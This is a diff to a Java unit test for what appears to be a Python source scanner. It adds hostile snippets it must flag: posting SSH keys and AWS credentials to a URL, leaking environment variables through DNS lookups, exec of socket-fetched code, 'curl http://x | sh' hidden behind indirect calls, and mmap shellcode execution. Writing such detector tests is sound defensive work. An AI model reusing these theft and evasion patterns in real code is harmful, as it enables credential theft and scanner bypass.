@@ -158,6 +158,46 @@ final class SourceEffectsTest {
     assertThat(verdict(source)).isEqualTo(ScanVerdict.SUSPICIOUS);
   }
 
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "import pathlib, requests\n"
+            + "for p in pathlib.Path.home().joinpath('.ssh').glob('id_*'):\n"
+            + "    requests.post(u, data=p.read_bytes())\n",
+        "import os, requests\nfor r, _, fs in os.walk(os.path.expanduser('~/.aws')):\n"
+            + "    for f in fs:\n"
+            + "        requests.post(u, files={'f': open(os.path.join(r, f), 'rb')})\n",
+        "import glob, os, urllib.request\nfor p in glob.glob(os.path.expanduser('~/.ssh/*')):\n"
+            + "    urllib.request.urlopen(u, data=open(p, 'rb').read())\n",
+        "import os, socket, binascii\nfor k, v in os.environ.items():\n"
+            + "    socket.gethostbyname(binascii.hexlify((k + v).encode()).decode()[:60] + '.x')\n",
+        "import socket\nexec(socket.create_connection((h, 1)).makefile().read())\n",
+        "import os\nD = {'a': os.system, 'b': print}\nD['a']('curl http://x | sh')\n",
+        "import os\n{'a': os.system}.get('a')('curl http://x | sh')\n",
+        "import os, functools\n"
+            + "functools.reduce(lambda a, b: os.system(b), ['curl http://x | sh'], 0)\n",
+        "import os\nclass A:\n    __class_getitem__ = os.system\nA['curl http://x | sh']\n",
+        "import ctypes, mmap\nb = mmap.mmap(-1, 9, prot=7)\nb.write(c)\n"
+            + "ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(b)))()\n"
+      })
+  void attackOverAListOrTableOrMemory_isFound(String source) {
+    assertThat(verdict(source)).isEqualTo(ScanVerdict.MALICIOUS);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "import os, requests\nfor f in os.listdir('data'):\n"
+            + "    requests.post(u, data=open(f).read())\n",
+        "import os\nD = {'a': os.remove, 'b': print}\nD['a']('x')\n",
+        "import socket\nsocket.gethostbyname(socket.gethostname())\n",
+        "import ctypes\nF = ctypes.CFUNCTYPE(ctypes.c_int)\nF(lambda: 1)\n",
+        "import pathlib\nfor p in pathlib.Path('m').joinpath('w').glob('*.pt'):\n    print(p)\n"
+      })
+  void honestListOrTableOrMemory_isClean(String source) {
+    assertThat(rules(source)).isEmpty();
+  }
+
   /** One source for each name of a list, which without that name would be clean. */
   private static String use(String list, String name) {
     String module = name.substring(0, Math.max(0, name.indexOf('.')));
@@ -195,6 +235,23 @@ final class SourceEffectsTest {
       case "templates" -> top + name + "('{{ x.__init__ }}')\n";
       case "always-doubtful" -> top + call(name) + "(f)\n";
       case "reached-modules" -> "import zz\nzz." + name + "\nimport zy\n" + reached(name);
+      case "feeders" -> {
+        String client = name.substring(0, name.lastIndexOf('.'));
+        String method = name.substring(name.lastIndexOf('.'));
+        yield top
+            + "import io\nb = io.BytesIO()\nf = "
+            + client
+            + "\nf"
+            + method
+            + "('RETR x', b.write)\nexec(b.getvalue())\n";
+      }
+      case "listers" -> {
+        String listed =
+            name.startsWith(".")
+                ? "import pathlib\np = pathlib.Path('/home/a/.ssh')" + name + "('id_*')\n"
+                : top + "p = " + name + "('/home/a/.ssh')\n";
+        yield listed + "import requests\nfor f in p:\n    requests.post(u, data=open(f).read())\n";
+      }
       case "openers" -> top.replace("import builtins\n", "") + opened(name);
       default -> "";
     };
